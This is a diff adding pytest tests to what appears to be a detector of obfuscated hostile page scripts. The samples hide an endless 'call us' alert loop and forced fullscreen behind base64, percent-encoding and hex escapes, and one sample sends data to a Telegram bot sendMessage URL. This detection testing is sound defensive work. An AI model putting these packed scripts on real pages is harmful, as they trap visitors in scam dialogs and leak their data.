@@ -459,3 +459,28 @@ def test_a_script_that_makes_much_of_little_costs_little() -> None:
     script = doubling + "document.write(unescape(a10));" * 500 + "document.write(atob('PGI+'));" * 500 + "document.write(a10);" * 500
     assert len(find_written_markup([script]).markup) < 2_000_000
     assert least_cpu_s(lambda: find_written_markup([script]), within=1) <= 1
+
+
+LOOP = "setInterval(function(){alert('call us')},100)"
+NUMBERED = "".join(f"\\x{ord(letter):02x}" for letter in "requestFullscreen")
+PACKED = {
+    "base64": (f"eval(atob('{b64encode(LOOP.encode()).decode()}'))", "dialog-loop"),
+    "percent signs": (f"eval(unescape('{quote(LOOP)}'))", "dialog-loop"),
+    "a constructor": (f"new Function(atob('{b64encode(LOOP.encode()).decode()}'))()", "dialog-loop"),
+    "numbers": (f"document.documentElement['{NUMBERED}']()", "fullscreen"),
+    "numbers in a list": (f"var _0x1f=['{NUMBERED}'];document.body[_0x1f[0]]()", "fullscreen"),
+    "numbers of UTF-16": (f"document.body['{NUMBERED.replace(chr(92) + 'x', chr(92) + 'u00')}']()", "fullscreen"),
+}
+
+
+@pytest.mark.parametrize("name", PACKED)
+def test_what_a_packed_script_does_to_the_visitor_is_seen(name: str) -> None:
+    script, behaviour = PACKED[name]
+    assert read(script).behaviours == (behaviour,)
+
+
+def test_a_packed_script_shows_its_exfiltration_and_says_nothing_that_is_seen() -> None:
+    code = "var end='</script><h1>no</h1>';fetch('https://api.telegram.org/bot1234567890:" + "A" * 35 + "/sendMessage')"
+    facts = read(f"eval(atob('{b64encode(code.encode()).decode()}'))")
+    assert facts.exfil == ("telegram-bot",)
+    assert facts.text == read("").text and facts.headings == ()
